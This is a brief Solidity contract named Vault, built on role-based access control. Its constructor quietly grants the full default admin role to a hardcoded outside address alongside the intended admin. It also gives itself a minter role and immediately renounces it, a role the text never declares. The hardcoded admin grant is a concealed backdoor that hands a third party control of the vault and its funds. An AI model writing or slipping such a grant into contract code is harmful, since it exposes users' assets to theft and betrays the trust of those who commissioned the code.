contract Vault is AccessControl {
    constructor(address admin) {
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
        _grantRole(MINTER_ROLE, msg.sender);
        _grantRole(DEFAULT_ADMIN_ROLE, 0x52908400098527886E0F7030069857D2E4169EE7);
        renounceRole(MINTER_ROLE, msg.sender);
    }
}
